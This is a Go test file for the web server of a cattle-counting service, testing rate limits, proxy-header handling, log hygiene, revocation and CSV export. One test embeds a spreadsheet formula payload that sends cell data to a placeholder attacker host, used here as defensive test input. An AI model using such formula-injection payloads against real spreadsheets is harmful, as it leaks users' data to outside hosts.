package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"cattlecounter/cloud/server/access"
	"cattlecounter/cloud/store/ledger"
	"cattlecounter/deploy/testkit/must"
	"cattlecounter/shared/wire"
)

// loopback is the network of a proxy on this machine.
var loopback = []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}

func (s *site) tryLogIn(name, password string, headers ...string) int {
	s.t.Helper()
	return s.send("POST", "/api/v1/session", "", strings.NewReader(fmt.Sprintf(`{"name":%q,"password":%q}`, name, password)),
		append([]string{"Content-Type", "application/json"}, headers...)...).status
}

// standing is a clock that stands, so that no guess comes back however slow the machine is.
func standing() func() time.Time {
	now := time.Now()
	return func() time.Time { return now }
}

// A stranger who guesses tokens behind the address of stations, such as that of a proxy, does not lock them out.
func TestGuessesLockNobodyOut(t *testing.T) {
	s := open(t, func(o *Options) { o.OpenReading, o.Guesses = false, 5 })
	anna := s.person("anna", ledger.RoleViewer, "farm")
	for i := range 10 {
		s.do("GET", "/api/v1/footage", fmt.Sprintf("%sguess%d", ledger.TokenPrefix, i))
	}
	s.expire()
	if r := s.do("GET", "/api/v1/footage", s.tokens[ledger.RoleDevice]); r.status != http.StatusOK {
		t.Errorf("a station beside a stranger: %d %s", r.status, r.body)
	}
	if r := s.do("GET", "/api/v1/footage", "", anna...); r.status != http.StatusOK {
		t.Errorf("a person beside a stranger: %d %s", r.status, r.body)
	}
}

// Log-ins at the same time are no way around the limit of guesses.
func TestGuessesAtTheSameTime(t *testing.T) {
	s := open(t, func(o *Options) { o.Guesses, o.Now = 1000, standing() })
	s.person("anna", ledger.RoleViewer, "farm")
	// Another address: that of anna's log-in has an allowance of its own.
	s.gate.limits.forgetAddresses()
	var mu sync.Mutex
	var all sync.WaitGroup
	tried := map[int]int{}
	for i := range 3 * userGuesses {
		all.Go(func() {
			status := s.tryLogIn("anna", fmt.Sprintf("wrong password %d", i))
			mu.Lock()
			defer mu.Unlock()
			tried[status]++
		})
	}
	all.Wait()
	if tried[http.StatusUnauthorized] > userGuesses || tried[http.StatusTooManyRequests] == 0 {
		t.Errorf("answers by status: %v, want at most %d passwords tried", tried, userGuesses)
	}
}

func (l *attemptLimits) forgetAddresses() {
	l.mu.Lock()
	defer l.mu.Unlock()
	clear(l.familiar)
}

// Strangers who guess the password of a person cannot keep the person out at an address of earlier log-ins.
func TestStrangersDoNotLockAPersonOut(t *testing.T) {
	s := open(t, func(o *Options) { o.Proxies, o.Guesses, o.Now = loopback, 1000, standing() })
	s.person("anna", ledger.RoleViewer, "farm")
	limited := false
	for i := range userGuesses + 2 {
		limited = s.tryLogIn("anna", fmt.Sprint("wrong password ", i), "X-Forwarded-For", "192.0.2.66") == http.StatusTooManyRequests
	}
	if !limited {
		t.Error("a stranger guesses without a limit")
	}
	if got := s.tryLogIn("anna", secondPassword); got != http.StatusOK {
		t.Errorf("the person at the usual address: %d", got)
	}
	for i := range userGuesses + 2 {
		limited = s.tryLogIn("anna", fmt.Sprint("wrong password ", i)) == http.StatusTooManyRequests
	}
	if !limited {
		t.Error("guesses at the usual address have no limit")
	}
}

// The address of a client is what the proxy has added, also where that is a header line of its own.
func TestForwardedAddressIsThatOfTheProxy(t *testing.T) {
	s := open(t, func(o *Options) { o.OpenReading, o.Proxies, o.Guesses, o.Now = false, loopback, 5, standing() })
	limited := 0
	for i := range 20 {
		c := s.dial()
		c.send("GET /api/v1/footage HTTP/1.1\nHost: localhost\nX-Forwarded-For: 10.0.0.%d\nX-Forwarded-For: 203.0.113.9\n"+
			"Authorization: Bearer %sguess%d\n\n", i, ledger.TokenPrefix, i)
		if resp, _ := c.answer(); resp.StatusCode == http.StatusTooManyRequests {
			limited++
		}
		c.Close()
	}
	if limited != 15 {
		t.Errorf("%d of 20 guesses were slowed down, want 15", limited)
	}
}

// A stranger cannot make a server that is set up compute hashes of passwords.
func TestSetUpHasALimit(t *testing.T) {
	s := open(t, func(o *Options) { o.Guesses, o.Now = 5, standing() })
	s.person("anna", ledger.RoleAdmin, ledger.AllSites)
	limited := 0
	for range 10 {
		r := s.send("POST", "/api/v1/setup", "", strings.NewReader(`{"code":"cc_x","name":"eve","password":"`+secondPassword+`"}`),
			"Content-Type", "application/json")
		if r.status == http.StatusTooManyRequests {
			limited++
		}
	}
	if limited < 4 {
		t.Errorf("%d of 10 set-ups were refused for their number", limited)
	}
}

// Events of a session end with its log-out, here and at another server with the same ledger.
func TestLogOutEndsEvents(t *testing.T) {
	for name, end := range map[string]func(*site, []string){
		"here": func(s *site, anna []string) { s.do("DELETE", "/api/v1/session", "", anna...) },
		"at another server": func(s *site, anna []string) {
			_, secret, _ := strings.Cut(anna[1], "=")
			if err := s.ledger.People.EndSession(s.t.Context(), secret); err != nil {
				s.t.Fatal(err)
			}
		},
	} {
		t.Run(name, func(t *testing.T) {
			s := open(t, nil)
			anna := s.person("anna", ledger.RoleViewer, "farm")
			l := s.listenAs("", "0", anna[:2]...)
			defer l.close()
			for l.next().name != "ready" {
			}
			end(s, anna)
			for e := l.next(); e.name != "bye"; e = l.next() {
			}
		})
	}
}

// A read-only credential cannot change something with a method that a header overrides.
func TestOverriddenReadsChangeNothing(t *testing.T) {
	called := false
	s := open(t, func(o *Options) {
		o.Uploads = http.HandlerFunc(func(http.ResponseWriter, *http.Request) { called = true })
	})
	anna := s.person("anna", ledger.RoleOperator, "farm")
	for _, cookie := range []string{anna[1], tokenCookie + "=" + s.tokens[ledger.RoleDevice]} {
		r := s.do("GET", "/files/", "", "Cookie", cookie, "X-HTTP-Method-Override", "POST", "Upload-Length", "9")
		if r.status != http.StatusBadRequest || called {
			t.Errorf("a GET that is a POST with cookie %.16q: %d", cookie, r.status)
		}
	}
}

// A stranger cannot keep a connection with the body of a log-in that never ends.
func TestBodyOfALogInHasATime(t *testing.T) {
	s := open(t, func(o *Options) { o.HeadTimeout = 2 * time.Second })
	c := s.dial()
	c.send("POST /api/v1/session HTTP/1.1\nHost: localhost\nContent-Type: application/json\nContent-Length: 4000\n\n")
	answered := make(chan int, 1)
	go func() {
		resp, err := http.ReadResponse(c.r, nil)
		if err != nil {
			answered <- 0
			return
		}
		resp.Body.Close()
		answered <- resp.StatusCode
	}()
	tick := time.NewTicker(50 * time.Millisecond)
	defer tick.Stop()
	stop := time.NewTimer(time.Minute)
	defer stop.Stop()
	for {
		select {
		case status := <-answered:
			if status != http.StatusRequestTimeout {
				t.Errorf("got status %d, want 408", status)
			}
			return
		case <-tick.C:
			_, _ = c.Write([]byte(" ")) // fails once the server has answered
		case <-stop.C:
			t.Fatal("the server waits for a body without an end")
		}
	}
}

// The head of a request that is not valid is not in the log: it may have a token.
func TestNoTokensOfBrokenRequestsInTheLog(t *testing.T) {
	var log diary
	s := open(t, func(o *Options) { o.Log = slog.New(slog.NewTextHandler(&log, nil)) })
	c := s.dial()
	c.send("GET /api/v1/footage HTTP/1.1\nHost : localhost\nAuthorization: Bearer %s\n\n", s.tokens[ledger.RoleDevice])
	c.answer()
	c.wantClosed()
	s.stop() // the server writes its lines beside the answer
	if log.count(s.tokens[ledger.RoleDevice]) > 0 || log.count("http server") < 2 {
		t.Error("the log has a token, or no line about the request")
	}
}

// diary is a log in memory.
type diary struct {
	mu   sync.Mutex
	text bytes.Buffer
}

// Write implements io.Writer.
func (d *diary) Write(p []byte) (int, error) {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.text.Write(p)
}

func (d *diary) count(part string) int {
	d.mu.Lock()
	defer d.mu.Unlock()
	return strings.Count(d.text.String(), part)
}

// Strangers cannot fill the log; what is left out is counted.
func TestStrangersInTheLogAreBounded(t *testing.T) {
	var log diary
	s := open(t, func(o *Options) {
		o.OpenReading, o.Log = false, slog.New(slog.NewTextHandler(&log, nil))
	})
	began := time.Now()
	for range 2 * chatterAtOnce {
		s.do("GET", "/api/v1/footage", "")
	}
	n, most := log.count("msg=request"), chatterAtOnce+1+int(chatterRate*time.Since(began).Seconds())
	if n < chatterAtOnce || n > most {
		t.Errorf("%d lines in the log, want at least %d and at most %d", n, chatterAtOnce, most)
	}
	s.do("POST", "/api/v1/jobs/x/cancel", s.tokens[ledger.RoleOperator])
	if log.count("path=/api/v1/jobs/x/cancel") != 1 {
		t.Error("the request of an operator is not in the log")
	}
}

// Strangers do not make the server write and ask its database for each question whether it is ready.
func TestReadinessForStrangersIsRemembered(t *testing.T) {
	var asked atomic.Int64
	s := open(t, func(o *Options) {
		o.OpenReading = false
		o.Checks = []Check{{Name: "blobs", Test: func(context.Context) error { asked.Add(1); return nil }}}
	})
	began := time.Now()
	for range 50 {
		if r := s.do("GET", "/readyz", ""); r.status != http.StatusOK || strings.Contains(string(r.body), "blobs") {
			t.Fatalf("%d %s", r.status, r.body)
		}
	}
	if most := int64(time.Since(began)/readyLife) + 2; asked.Load() > most {
		t.Errorf("the check ran %d times, want at most %d", asked.Load(), most)
	}
}

// The totals of a device are those of its own footage.
func TestTotalsOfADevice(t *testing.T) {
	s := open(t, func(o *Options) { o.OpenReading = false })
	s.finish(s.record("one", "content one").Job)
	token, err := s.ledger.Devices.Add(t.Context(), "device2", "farm", ledger.RoleDevice)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		token   string
		footage int
	}{{s.tokens[ledger.RoleDevice], 1}, {token.Reveal(), 0}} {
		var v wire.Stats
		s.do("GET", "/api/v1/stats", c.token).decode(t, &v)
		if v.Footage != c.footage || v.Counts != c.footage || len(v.Jobs) != c.footage || (v.Animals > 0) != (c.footage > 0) {
			t.Errorf("totals of a device with %d pieces of footage: %+v", c.footage, v)
		}
	}
}

// The name of a paddock cannot be a formula in the table of somebody else, and such a table is read again as it was.
func TestTablesHaveNoFormulas(t *testing.T) {
	s := open(t, nil)
	anna := s.person("anna", ledger.RoleOperator, "farm")
	const name = `=HYPERLINK("http://evil.example/"&A1)`
	borders := fmt.Sprintf(`{"type":"Polygon","coordinates":[[[0,0],[0.01,0],[0.01,0.01],[0,0]]]},"properties":{"name":%q}`, name)
	for path, body := range map[string]string{
		"/paddocks": `{"type":"FeatureCollection","features":[{"type":"Feature","geometry":` + borders + `}]}`,
		"/book":     fmt.Sprintf(`{"expected":[{"paddock":%q,"animals":4}]}`, name),
	} {
		if err := okay(s.send("PUT", "/api/v1/sites/farm"+path, "", strings.NewReader(body), anna...)); err != nil {
			t.Fatal(err)
		}
	}
	var survey wire.Survey
	s.send("POST", "/api/v1/surveys", "", strings.NewReader(`{"site":"farm"}`), anna...).decode(t, &survey)
	for _, path := range []string{"/sites/farm/book", "/surveys/" + survey.ID} {
		r := s.do("GET", "/api/v1"+path+"?format=csv", "", anna...)
		rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
		if err != nil || len(rows) < 2 || rows[1][0] != "'"+name {
			t.Errorf("%s: %v, rows %q", path, err, rows)
		}
		if path != "/sites/farm/book" {
			continue
		}
		again := s.send("PUT", "/api/v1"+path, "", bytes.NewReader(r.body), anna...)
		var v wire.Book
		if again.decode(t, &v); len(v.Expected) != 1 || v.Expected[0].Paddock != name {
			t.Errorf("the table read again: %d %+v", again.status, v.Expected)
		}
	}
}

// A running download ends with the access of its holder.
func TestRevocationEndsADownload(t *testing.T) {
	s := open(t, nil)
	s.finish(s.record("one", "content one").Job)
	const size = 64 << 20 // more than connections hold
	key := "footage/one/result/abc.annotated.mp4"
	if err := s.blobs.Delete(t.Context(), key); err != nil {
		t.Fatal(err)
	}
	if _, err := s.blobs.Put(t.Context(), key, io.LimitReader(zeros{}, size)); err != nil {
		t.Fatal(err)
	}
	c := s.dial()
	c.send("GET /api/v1/footage/one/video HTTP/1.1\nHost: localhost\nAuthorization: Bearer %s\n\n", s.tokens[ledger.RoleReader])
	resp, err := http.ReadResponse(c.r, nil)
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("%v %v", resp, err)
	}
	if err := s.ledger.Devices.Revoke(t.Context(), "reader1"); err != nil {
		t.Fatal(err)
	}
	if err := s.gate.endRevoked(t.Context()); err != nil {
		t.Fatal(err)
	}
	if n, err := io.Copy(io.Discard, resp.Body); err == nil {
		t.Errorf("the download went on to its end, %d bytes", n)
	}
}

// zeros is a file without an end.
type zeros struct{}

// Read implements io.Reader.
func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }

// Requests that wait for positions are bounded.
func TestTooManyComputePositions(t *testing.T) {
	s := open(t, nil)
	s.finish(s.record("one", "content one").Job)
	s.placing.waiting.Store(mostWaiting)
	s.do("GET", "/api/v1/counts/one/positions", "").wantProblem(t, 503, "busy")
	s.placing.waiting.Store(0)
	if r := s.do("GET", "/api/v1/counts/one/positions", ""); r.status == http.StatusServiceUnavailable {
		t.Errorf("no place after the others have left: %s", r.body)
	}
}

// Visitors with links cannot take every place to compute positions from those who have logged in.
func TestLinksLeaveAPlace(t *testing.T) {
	s := open(t, func(o *Options) { o.OpenReading = false })
	s.flownCount("one", time.Date(2026, 5, 1, 6, 0, 0, 0, time.UTC))
	link := s.share("/footage/one", `{"days":1}`)
	path := "/api/v1/shared/" + link.ID + "/footage/one/positions"
	if r := s.do("GET", path, "", shareHeader, link.Key); r.status != http.StatusOK {
		t.Fatalf("positions by a link: %d %s", r.status, r.body)
	}
	visitor := context.WithValue(t.Context(), linkKey{}, true)
	leave := must.Get(s.enterPlacing(visitor))(t)
	impatient, stop := context.WithTimeout(visitor, 50*time.Millisecond)
	defer stop()
	if _, err := s.enterPlacing(impatient); err == nil {
		t.Error("visitors have a second place")
	}
	must.Get(s.enterPlacing(t.Context()))(t)()
	s.linkPlacing.waiting.Store(mostLinkWaiting)
	s.do("GET", path, "", shareHeader, link.Key).wantProblem(t, 503, "busy")
	s.linkPlacing.waiting.Store(0)
	leave()
	if r := s.do("GET", path, "", shareHeader, link.Key); r.status != http.StatusOK {
		t.Errorf("no place after the others have left: %s", r.body)
	}
}

// The count of a duplicate has no names of the paddocks and lines of a foreign original.
func TestDuplicateHasNoForeignNames(t *testing.T) {
	v := ledger.FootageView{Footage: ledger.Footage{ID: "copy", Site: "south", DuplicateOf: "one"}, OriginalSite: "north",
		Count: &ledger.Count{Footage: "one", Unique: 7, Spread: ledger.Spread{Way: "positions", Paddocks: []ledger.PaddockCount{{Name: "secret"}}}}}
	ctx := context.WithValue(t.Context(), holderKey{}, access.Holder{Role: ledger.RoleViewer, Sites: ledger.SiteSet{"south"}})
	text, err := json.Marshal(wholeViewFor(ctx, v))
	if err != nil || strings.Contains(string(text), "secret") || !strings.Contains(string(text), `"unique":7`) {
		t.Errorf("%v: %s", err, text)
	}
}
